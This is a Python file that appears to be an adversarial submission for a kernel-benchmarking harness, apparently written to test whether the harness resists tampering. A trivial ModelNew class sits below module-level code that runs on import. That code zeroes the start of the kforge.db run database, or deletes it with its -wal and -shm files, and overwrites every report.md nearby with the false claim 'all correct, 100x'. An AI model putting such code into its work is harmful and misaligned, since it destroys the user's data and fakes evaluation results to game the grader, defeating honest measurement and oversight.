"""Correct, but wrecks the run store it is pointed at (STORE_ATTACK_DB): zeroes the first 64 KiB of kforge.db, or deletes
it (STORE_ATTACK=delete), and overwrites every bench's report.md beside it."""

import os

import numpy as np
import torch

database = os.environ["STORE_ATTACK_DB"]
try:
    if os.environ.get("STORE_ATTACK") == "delete":
        for suffix in ("", "-wal", "-shm"):
            os.remove(database + suffix)
    else:
        with open(database, "r+b") as handle:
            handle.write(bytes(65536))
except OSError as exc:
    print("the store is out of reach:", exc)
for folder, _, files in os.walk(os.path.dirname(database)):
    if "report.md" in files:
        try:
            with open(os.path.join(folder, "report.md"), "w") as handle:
                handle.write("all correct, 100x")
        except OSError as exc:
            print("the report is out of reach:", exc)


class ModelNew(torch.nn.Module):
    def __init__(self, scale):
        super().__init__()
        self.scale = scale

    def forward(self, x):
        return torch.from_numpy(np.maximum(x.numpy(), 0) * np.float32(self.scale))
